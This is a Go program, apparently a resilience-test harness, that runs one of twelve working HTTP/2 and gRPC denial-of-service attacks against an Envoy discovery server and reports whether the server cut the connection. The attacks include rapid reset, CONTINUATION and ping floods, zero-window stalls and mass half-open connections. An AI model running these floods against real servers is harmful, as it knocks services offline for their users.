// A client that attacks a server of gRPC over HTTP/2 in one way, until the server ends it or a limit is reached. Prints one JSON object.
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"os"
	"strings"
	"sync"
	"time"

	discovery "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"
)

const (
	path = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
	// Frames of one attack, and how long it lasts at most.
	maxFrames = 200_000
	limit     = 90 * time.Second
	// How long the server may take to end a connection after the last frame.
	patience = 5 * time.Second
	// Large enough to be more than any server should take.
	manyConnections = 400
)

// Report is what the server did.
type Report struct {
	// The server closed the connection, or all connections.
	Closed bool `json:"closed"`
	// Statuses of streams of grpc-go, with their number.
	Statuses map[string]int `json:"statuses,omitempty"`
}

var attacks = map[string]func() Report{
	"rapid-reset":  raw(rapidReset),
	"continuation": raw(continuation),
	"huge-header":  raw(hugeHeader),
	"settings": raw(func(p *peer) error {
		return p.framer.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 20_000})
	}),
	"pings":        raw(func(p *peer) error { return p.framer.WritePing(false, [8]byte{}) }),
	"empty-data":   raw(emptyData),
	"no-window":    raw(noWindow),
	"silent":       halfOpen(nil),
	"half-head":    halfOpen(halfHead),
	"half-message": halfOpen(halfMessage),
	"streams":      manyStreams,
	"cancels":      cancels,
}

var (
	attack  = flag.String("attack", "", "name of the attack")
	address = flag.String("address", "", "host and port of the server")
	local   = flag.String("local", "127.0.0.1", "address of the client; limits are per address")
	token   = flag.String("token", "", "bearer token")
	typeURL = flag.String("type", "", "type URL of the resources that are asked for")
)

func main() {
	flag.Parse()
	line, err := json.Marshal(attacks[*attack]())
	check(err)
	fmt.Println(string(line))
}

// A connection with the framer of HTTP/2.
type peer struct {
	connection net.Conn
	framer     *http2.Framer
	encoder    *hpack.Encoder
	block      bytes.Buffer
	stream     uint32
	step       int
}

func dial() (net.Conn, error) {
	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(*local)}}
	return dialer.Dial("tcp", *address)
}

func newPeer(settings ...http2.Setting) (*peer, error) {
	connection, err := dial()
	if err != nil {
		return nil, err
	}
	p := &peer{connection: connection, framer: http2.NewFramer(connection, connection), stream: 1}
	p.encoder = hpack.NewEncoder(&p.block)
	if _, err := io.WriteString(connection, http2.ClientPreface); err != nil {
		return nil, err
	}
	return p, p.framer.WriteSettings(settings...)
}

func (p *peer) head(more ...hpack.HeaderField) []byte {
	p.block.Reset()
	fields := append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path},
		{Name: ":authority", Value: "controller"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
		{Name: "authorization", Value: "Bearer " + *token},
	}, more...)
	for _, field := range fields {
		check(p.encoder.WriteField(field))
	}
	return p.block.Bytes()
}

func (p *peer) open(block []byte) error {
	return p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: p.stream, BlockFragment: block, EndHeaders: true})
}

// Repeats one step on one connection, while another routine reads what the server sends.
func raw(step func(*peer) error) func() Report {
	return func() Report {
		p, err := newPeer(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		check(err)
		check(p.connection.SetDeadline(time.Now().Add(limit)))
		read := make(chan error)
		go func() {
			_, err := io.Copy(io.Discard, p.connection)
			read <- err
		}()
		for frames := 0; err == nil && frames < maxFrames; frames++ {
			err = step(p)
		}
		check(p.connection.SetReadDeadline(time.Now().Add(patience)))
		end := <-read
		check(p.connection.Close())
		return Report{Closed: !os.IsTimeout(end)}
	}
}

func rapidReset(p *peer) error {
	if err := p.open(p.head()); err != nil {
		return err
	}
	err := p.framer.WriteRSTStream(p.stream, http2.ErrCodeCancel)
	p.stream += 2
	return err
}

func continuation(p *peer) error {
	p.step++
	if p.step == 1 {
		return p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.head()})
	}
	return p.framer.WriteContinuation(1, false, nil)
}

func hugeHeader(p *peer) error {
	block := bytes.Clone(p.head(hpack.HeaderField{Name: "x-huge", Value: strings.Repeat("~", 1<<20)}))
	const size = 16_000
	err := p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: p.stream, BlockFragment: block[:size]})
	for at := size; at < len(block) && err == nil; at += size {
		end := min(at+size, len(block))
		err = p.framer.WriteContinuation(p.stream, end == len(block), block[at:end])
	}
	p.stream += 2
	return err
}

func emptyData(p *peer) error {
	p.step++
	if p.step == 1 {
		return p.open(p.head())
	}
	return p.framer.WriteData(1, false, nil)
}

// Asks for everything, and never lets the server send it.
func noWindow(p *peer) error {
	p.step++
	if p.step > 1 {
		time.Sleep(time.Second)
		return p.framer.WritePing(false, [8]byte{})
	}
	if err := p.open(p.head()); err != nil {
		return err
	}
	return p.framer.WriteData(1, false, ask())
}

func ask() []byte {
	message, err := proto.Marshal(&discovery.DeltaDiscoveryRequest{TypeUrl: *typeURL})
	check(err)
	return append([]byte{0, 0, 0, 0, byte(len(message))}, message...)
}

// Many connections that begin something and are silent from then on.
func halfOpen(begin func(*peer) error) func() Report {
	return func() Report {
		report := Report{Closed: true}
		var group sync.WaitGroup
		var lock sync.Mutex
		for range manyConnections {
			connection, err := dial()
			check(err)
			group.Go(func() {
				defer connection.Close()
				check(connection.SetDeadline(time.Now().Add(limit)))
				if begin != nil {
					p := &peer{connection: connection, framer: http2.NewFramer(connection, connection), stream: 1}
					p.encoder = hpack.NewEncoder(&p.block)
					// The server may have closed the connection.
					if _, err := io.WriteString(connection, http2.ClientPreface); err == nil && p.framer.WriteSettings() == nil {
						_ = begin(p)
					}
				}
				_, err := io.Copy(io.Discard, connection)
				lock.Lock()
				defer lock.Unlock()
				report.Closed = report.Closed && !os.IsTimeout(err)
			})
		}
		group.Wait()
		return report
	}
}

func halfHead(p *peer) error {
	return p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.head()})
}

func halfMessage(p *peer) error {
	if err := p.open(p.head()); err != nil {
		return err
	}
	return p.framer.WriteData(1, false, ask()[:9])
}

// Opens many streams of grpc-go, on many connections, and keeps them.
func manyStreams() Report {
	report := Report{Statuses: map[string]int{}}
	var group sync.WaitGroup
	var lock sync.Mutex
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	for range 40 {
		client := newClient()
		for range 16 {
			group.Go(func() {
				name := recv(ctx, client)
				lock.Lock()
				defer lock.Unlock()
				report.Statuses[name]++
			})
		}
	}
	group.Wait()
	return report
}

// Opens streams of grpc-go and cancels them, as fast as it can.
func cancels() Report {
	report := Report{Statuses: map[string]int{}}
	var group sync.WaitGroup
	var lock sync.Mutex
	client := newClient()
	for range 16 {
		group.Go(func() {
			for range 500 {
				ctx, cancel := context.WithCancel(context.Background())
				time.AfterFunc(time.Millisecond, cancel)
				name := recv(ctx, client)
				cancel()
				lock.Lock()
				report.Statuses[name]++
				lock.Unlock()
			}
		})
	}
	group.Wait()
	return report
}

func newClient() discovery.AggregatedDiscoveryServiceClient {
	connection, err := grpc.NewClient("passthrough:///"+*address,
		grpc.WithTransportCredentials(insecure.NewCredentials()),
		grpc.WithContextDialer(func(context.Context, string) (net.Conn, error) { return dial() }))
	check(err)
	return discovery.NewAggregatedDiscoveryServiceClient(connection)
}

// Opens a stream and reads until it ends. Returns the name of its status.
func recv(ctx context.Context, client discovery.AggregatedDiscoveryServiceClient) string {
	stream, err := client.DeltaAggregatedResources(metadata.AppendToOutgoingContext(ctx, "authorization", "Bearer "+*token))
	for err == nil {
		_, err = stream.Recv()
	}
	return status.Code(err).String()
}

func check(err error) {
	if err != nil {
		log.Fatal(err)
	}
}
